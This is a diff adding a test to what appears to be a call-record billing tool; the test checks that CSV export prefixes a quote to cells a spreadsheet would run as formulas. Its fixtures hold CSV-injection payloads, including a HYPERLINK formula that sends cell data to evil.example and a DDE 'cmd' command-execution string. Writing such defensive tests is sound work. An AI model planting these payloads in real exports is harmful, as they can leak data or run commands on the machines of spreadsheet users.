@@ -332,3 +332,43 @@ def test_an_invalid_call_is_kept_but_never_rated_nor_invoiced(
     assert bad.status == "invalid"
     assert bad.validation_errors == ["billsec_exceeds_duration"]
     assert (bad.rating_status.value, bad.cost, bad.invoice_id) == ("pending", None, None)
+
+
+def test_export_csv_cells_never_start_a_formula(
+    cli: Cli, committed_db: Engine, jakarta: None
+) -> None:
+    """Caller numbers and names come from outside: a cell a spreadsheet would run as a
+    formula gets a leading quote; a phone number or an amount that is one stays."""
+    start = dt.datetime(2025, 11, 5, 10, 0, tzinfo=WIB)
+    with Session(committed_db) as session, session.begin():
+        link = factories.cdr(
+            session,
+            start_time=start,
+            src='=HYPERLINK("http://evil.example/?x="&A1,"details")',
+            dst="+622155501234",
+            call_id="\tcall-1",
+            accountcode="\r=1+1",
+        )
+        command = factories.cdr(
+            session,
+            start_time=start + dt.timedelta(minutes=1),
+            src="+cmd|' /C calc'!A0",
+            dst="@SUM(1+1)",
+            rating_status="rated",
+            cost=Decimal("-1.50"),
+        )
+        ids = (link.id, command.id)
+    result = cli("cdr", "export", "--from", "2025-11-05", "--to", "2025-11-05")
+    assert result.exit_code == 0, result.output
+    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(result.stdout, newline=""))}
+    assert {key: rows[ids[0]][key] for key in ("src", "dst", "call_id", "accountcode")} == {
+        "src": '\'=HYPERLINK("http://evil.example/?x="&A1,"details")',
+        "dst": "+622155501234",
+        "call_id": "'\tcall-1",
+        "accountcode": "'\r=1+1",
+    }
+    assert {key: rows[ids[1]][key] for key in ("src", "dst", "cost")} == {
+        "src": "'+cmd|' /C calc'!A0",
+        "dst": "'@SUM(1+1)",
+        "cost": "-1.500000",
+    }
